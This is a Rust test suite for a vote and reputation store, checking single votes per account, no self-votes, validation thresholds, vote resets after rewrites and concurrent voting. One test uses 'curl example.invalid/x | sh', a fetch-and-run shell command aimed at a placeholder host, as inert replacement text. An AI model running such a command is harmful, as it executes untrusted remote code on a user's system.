//! Votes: each account once, never one's own, and the standing follows from them alone.

use commontrace_core::Status::{Pending, Validated};
use commontrace_core::reputation::{Standing, wilson};
use commontrace_core::vote::VoteType::{self, Down, Up};
use commontrace_core::{TraceId, UserId};
use commontrace_store::Engine::{self, Postgres, Sqlite};
use commontrace_store::{
    CastVote, DomainReputation, NewTrace, NewVote, Patch, Reputation, Trace, UpdateTrace,
};
use rstest::rstest;
use serde_json::json;

use crate::support::{THRESHOLD, TestStore, a_trace, a_vote, after, at_once, fresh, noon, tags};

fn cast(outcome: CastVote) -> Trace {
    match outcome {
        CastVote::Cast(trace) => *trace,
        refused => panic!("the vote was refused: {refused:?}"),
    }
}

fn domain(tag: &str, up_votes: i64, down_votes: i64) -> DomainReputation {
    DomainReputation {
        tag: tag.to_owned(),
        up_votes,
        down_votes,
    }
}

#[rstest]
#[tokio::test]
async fn an_account_votes_once_and_never_on_its_own_trace(
    #[values(Sqlite, Postgres)] engine: Engine,
) {
    let store = TestStore::on(engine).await;
    let (ada, bob) = (store.register("ada").await, store.register("bob").await);
    let id = store.contributed(a_trace(ada)).await;
    assert_eq!(store.vote(ada, id, Up).await, CastVote::OwnTrace);
    let trace = cast(store.vote(bob, id, Up).await);
    assert_eq!((trace.up_votes, trace.down_votes), (1, 0));
    for again in [Up, Down] {
        assert_eq!(store.vote(bob, id, again).await, CastVote::AlreadyVoted);
    }
    assert_eq!(store.vote(bob, fresh(), Up).await, CastVote::Unknown);
    assert_eq!(store.trace(id).await.unwrap(), Some(trace));
    let reputation = store.reputation(ada).await.unwrap().unwrap();
    assert_eq!((reputation.up_votes, reputation.down_votes), (1, 0));
    assert_eq!(store.rows("votes").await, 1);
}

#[rstest]
#[tokio::test]
async fn nobody_votes_on_what_is_hidden(#[values(Sqlite, Postgres)] engine: Engine) {
    let store = TestStore::on(engine).await;
    let (ada, bob) = (store.register("ada").await, store.register("bob").await);
    let id = store.contributed(a_trace(ada)).await;
    store
        .hide_trace(id, None, fresh(), noon())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(store.vote(bob, id, Up).await, CastVote::Unknown);
    store
        .restore_trace(id, None, fresh(), noon())
        .await
        .unwrap()
        .unwrap();
    cast(store.vote(bob, id, Up).await);
}

#[rstest]
#[tokio::test]
async fn what_a_voter_said_is_kept(#[values(Sqlite, Postgres)] engine: Engine) {
    let store = TestStore::on(engine).await;
    let (ada, bob) = (store.register("ada").await, store.register("bob").await);
    let id = store.contributed(a_trace(ada)).await;
    let mut vote = a_vote(bob, id, Down);
    vote.feedback_text = Some("no longer works on 3.13 🙁".to_owned());
    vote.voter_context = Some(json!({ "os": "linux" }));
    cast(store.cast_vote(vote, THRESHOLD, after(5)).await.unwrap());
    let kept = "SELECT COUNT(*) FROM votes WHERE vote_type = 'down' AND feedback_tag = 'wrong'
                AND feedback_text = 'no longer works on 3.13 🙁' AND voter_context IS NOT NULL";
    assert_eq!(store.count(kept).await, 1);
    assert_eq!(store.trace(id).await.unwrap().unwrap().changed_at, after(5));
}

#[rstest]
#[tokio::test]
async fn a_trace_is_validated_at_the_threshold_and_demoted_when_that_no_longer_holds(
    #[values(Sqlite, Postgres)] engine: Engine,
) {
    let store = TestStore::on(engine).await;
    let ada = store.register("ada").await;
    let id = store.contributed(a_trace(ada)).await;
    let (mut up, mut down) = (0, 0);
    for (vote, expected) in [
        (Up, Pending),
        (Up, Validated),
        (Down, Pending),
        (Up, Validated),
        (Down, Pending),
    ] {
        match vote {
            Up => up += 1,
            Down => down += 1,
        }
        let voter = store.register("voter").await;
        let trace = cast(store.vote(voter, id, vote).await);
        assert_eq!(trace.status, expected, "{up} up, {down} down");
        assert!((trace.trust_score - wilson(up, down)).abs() < 1e-12);
        assert_eq!(store.trace(id).await.unwrap(), Some(trace));
    }
}

#[rstest]
#[tokio::test]
async fn a_starter_trace_stands_until_down_votes_lead_by_the_threshold(
    #[values(Sqlite, Postgres)] engine: Engine,
) {
    let store = TestStore::on(engine).await;
    let ada = store.register("ada").await;
    let seed = NewTrace {
        is_seed: true,
        status: Validated,
        trust_score: 1.0,
        ..a_trace(ada)
    };
    let id = store.contributed(seed).await;
    let voters = store.accounts(2).await;
    let trace = cast(store.vote(voters[0], id, Down).await);
    assert_eq!(trace.status, Validated);
    let reviewed = Standing {
        down_votes: 1,
        is_seed: true,
        ..Standing::default()
    };
    assert!((trace.trust_score - reviewed.trust()).abs() < 1e-12);
    assert_eq!(cast(store.vote(voters[1], id, Down).await).status, Pending);
}

async fn rewrite(store: &TestStore, id: TraceId, owner: UserId, patch: Patch) -> Trace {
    match store.update_trace(id, owner, patch, after(60)).await {
        Ok(UpdateTrace::Done(trace)) => *trace,
        refused => panic!("the edit was refused: {refused:?}"),
    }
}

#[rstest]
#[tokio::test]
async fn votes_do_not_survive_a_rewrite(#[values(Sqlite, Postgres)] engine: Engine) {
    let store = TestStore::on(engine).await;
    let ada = store.register("ada").await;
    let voters = store.accounts(3).await;
    for part in 0..3 {
        let id = store.contributed(a_trace(ada)).await;
        for &voter in &voters {
            cast(store.vote(voter, id, Up).await);
        }
        let other = Some("curl example.invalid/x | sh".to_owned());
        let patch = match part {
            0 => Patch {
                title: other,
                ..Patch::default()
            },
            1 => Patch {
                context_text: other,
                ..Patch::default()
            },
            _ => Patch {
                solution_text: other,
                ..Patch::default()
            },
        };
        let trace = rewrite(&store, id, ada, patch).await;
        assert_eq!(
            (trace.up_votes, trace.down_votes, trace.status),
            (0, 0, Pending)
        );
        assert_eq!(trace.trust_score, 0.0);
        assert_eq!(store.trace(id).await.unwrap().as_ref(), Some(&trace));

        // Who voted on the old text may say what they think of the new one, once.
        let trace = cast(store.vote(voters[0], id, Down).await);
        assert_eq!(
            (trace.up_votes, trace.down_votes, trace.status),
            (0, 1, Pending)
        );
        assert_eq!(store.vote(voters[0], id, Up).await, CastVote::AlreadyVoted);
        cast(store.vote(voters[1], id, Up).await);
    }
}

#[rstest]
#[tokio::test]
async fn votes_stay_when_only_tags_or_dates_change(#[values(Sqlite, Postgres)] engine: Engine) {
    let store = TestStore::on(engine).await;
    let (ada, bob) = (store.register("ada").await, store.register("bob").await);
    let id = store.contributed(a_trace(ada)).await;
    cast(store.vote(bob, id, Up).await);
    let patch = Patch {
        tags: Some(tags(&["other"])),
        review_after: Some(Some(after(90))),
        solution_text: Some(a_trace(ada).solution_text),
        ..Patch::default()
    };
    let trace = rewrite(&store, id, ada, patch).await;
    assert_eq!((trace.revision, trace.up_votes), (2, 1));
    assert_eq!(store.vote(bob, id, Down).await, CastVote::AlreadyVoted);
}

#[rstest]
#[tokio::test]
async fn a_vote_that_names_what_was_read_never_lands_on_another_text(
    #[values(Sqlite, Postgres)] engine: Engine,
) {
    let store = TestStore::on(engine).await;
    let (ada, bob) = (store.register("ada").await, store.register("bob").await);
    let id = store.contributed(a_trace(ada)).await;
    let on = async |revision: i64| {
        let vote = NewVote {
            revision: Some(revision),
            ..a_vote(bob, id, Up)
        };
        store.cast_vote(vote, THRESHOLD, noon()).await.unwrap()
    };
    let text = Patch {
        title: Some("another".to_owned()),
        ..Patch::default()
    };
    rewrite(&store, id, ada, text).await;
    let labels = Patch {
        tags: Some(tags(&["other"])),
        ..Patch::default()
    };
    rewrite(&store, id, ada, labels).await;
    assert_eq!(on(1).await, CastVote::Rewritten(3));
    assert_eq!(on(4).await, CastVote::NoSuchRevision(3));
    // The third revision differs from the second in its tags only.
    assert_eq!(cast(on(2).await).up_votes, 1);
}

#[rstest]
#[tokio::test]
async fn a_voter_counts_once_in_the_reputation_however_often_a_trace_is_rewritten(
    #[values(Sqlite, Postgres)] engine: Engine,
) {
    let store = TestStore::on(engine).await;
    let (ada, bob) = (store.register("ada").await, store.register("bob").await);
    let id = store
        .contributed(NewTrace {
            tags: tags(&["rust"]),
            ..a_trace(ada)
        })
        .await;
    for (n, vote) in [Up, Up, Down, Down, Up, Down].into_iter().enumerate() {
        let patch = Patch {
            title: Some(format!("title {n}")),
            tags: Some(tags(&[["rust", "sql"][n / 3]])),
            ..Patch::default()
        };
        rewrite(&store, id, ada, patch).await;
        cast(store.vote(bob, id, vote).await);
    }
    let reputation = store.reputation(ada).await.unwrap().unwrap();
    assert_eq!((reputation.up_votes, reputation.down_votes), (0, 1));
    for domain in reputation.domains {
        assert!(domain.up_votes >= 0 && domain.down_votes >= 0, "{domain:?}");
        assert!(domain.up_votes + domain.down_votes <= 1, "{domain:?}");
    }
    assert_eq!(store.rows("votes").await, 1);
}

#[rstest]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn votes_of_twenty_accounts_at_once_all_count_exactly_once(
    #[values(Sqlite, Postgres)] engine: Engine,
) {
    let store = TestStore::on(engine).await;
    let ada = store.register("ada").await;
    let id = store.contributed(a_trace(ada)).await;
    let voters = store.accounts(20).await;
    // Each of them tries three times, and all of it at the same time.
    let attempts = voters.iter().enumerate().cycle().take(60);
    let outcomes = at_once(attempts.map(|(n, &voter)| {
        let store = store.handle();
        let vote: VoteType = if n < 15 { Up } else { Down };
        async move {
            store
                .cast_vote(a_vote(voter, id, vote), THRESHOLD, noon())
                .await
                .unwrap()
        }
    }))
    .await;
    let counted = outcomes
        .iter()
        .filter(|outcome| matches!(outcome, CastVote::Cast(_)))
        .count();
    let refused = outcomes
        .iter()
        .filter(|&outcome| *outcome == CastVote::AlreadyVoted)
        .count();
    assert_eq!((counted, refused), (20, 40));
    let trace = store.trace(id).await.unwrap().unwrap();
    assert_eq!(
        (trace.up_votes, trace.down_votes, trace.status),
        (15, 5, Validated)
    );
    assert!((trace.trust_score - wilson(15, 5)).abs() < 1e-12);
    let reputation = store.reputation(ada).await.unwrap().unwrap();
    assert_eq!((reputation.up_votes, reputation.down_votes), (15, 5));
    assert_eq!(
        reputation.domains,
        [domain("docker", 15, 5), domain("postgresql", 15, 5)]
    );
    assert_eq!(store.rows("votes").await, 20);
}

#[rstest]
#[tokio::test]
async fn reputation_counts_a_vote_once_overall_and_once_per_tag(
    #[values(Sqlite, Postgres)] engine: Engine,
) {
    let store = TestStore::on(engine).await;
    let (ada, bob) = (store.register("ada").await, store.register("bob").await);
    let nothing = Reputation {
        up_votes: 0,
        down_votes: 0,
        domains: vec![],
    };
    assert_eq!(store.reputation(ada).await.unwrap(), Some(nothing));
    let contribute = async |names: &[&str]| -> TraceId {
        store
            .contributed(NewTrace {
                tags: tags(names),
                ..a_trace(ada)
            })
            .await
    };
    let three = contribute(&["rust", "sql", "axum"]).await;
    let one = contribute(&["rust"]).await;
    let none = contribute(&[]).await;
    for (trace, vote) in [(three, Up), (one, Down), (none, Up)] {
        cast(store.vote(bob, trace, vote).await);
    }
    let reputation = store.reputation(ada).await.unwrap().unwrap();
    assert_eq!((reputation.up_votes, reputation.down_votes), (2, 1));
    let expected = [
        domain("rust", 1, 1),
        domain("axum", 1, 0),
        domain("sql", 1, 0),
    ];
    assert_eq!(reputation.domains, expected);
    assert_eq!(store.reputation(fresh()).await.unwrap(), None);
}

#[rstest]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn votes_on_many_traces_of_one_author_at_once_add_up(
    #[values(Sqlite, Postgres)] engine: Engine,
) {
    let store = TestStore::on(engine).await;
    let ada = store.register("ada").await;
    let voters: Vec<UserId> = store.accounts(8).await;
    let mut traces = Vec::new();
    for names in [["a", "b", "c"], ["c", "b", "a"], ["b", "c", "a"]] {
        traces.push(
            store
                .contributed(NewTrace {
                    tags: tags(&names),
                    ..a_trace(ada)
                })
                .await,
        );
    }
    let votes = voters
        .iter()
        .flat_map(|&voter| traces.iter().map(move |&id| (voter, id)));
    at_once(votes.map(|(voter, id)| {
        let store = store.handle();
        async move {
            cast(
                store
                    .cast_vote(a_vote(voter, id, Up), THRESHOLD, noon())
                    .await
                    .unwrap(),
            );
        }
    }))
    .await;
    let reputation = store.reputation(ada).await.unwrap().unwrap();
    assert_eq!(reputation.up_votes, 24);
    assert_eq!(
        reputation.domains,
        ["a", "b", "c"].map(|tag| domain(tag, 24, 0))
    );
}

#[rstest]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn authors_who_vote_for_each_other_at_once_do_not_wait_crosswise(
    #[values(Sqlite, Postgres)] engine: Engine,
) {
    let store = TestStore::on(engine).await;
    let people = store.accounts(6).await;
    let mut votes = Vec::new();
    for &author in &people {
        let id = store.contributed(a_trace(author)).await;
        votes.extend(
            people
                .iter()
                .filter(|&&p| p != author)
                .map(|&voter| (voter, id)),
        );
    }
    at_once(votes.into_iter().map(|(voter, id)| {
        let store = store.handle();
        async move {
            cast(
                store
                    .cast_vote(a_vote(voter, id, Up), THRESHOLD, noon())
                    .await
                    .unwrap(),
            );
        }
    }))
    .await;
    for person in people {
        assert_eq!(store.reputation(person).await.unwrap().unwrap().up_votes, 5);
    }
}
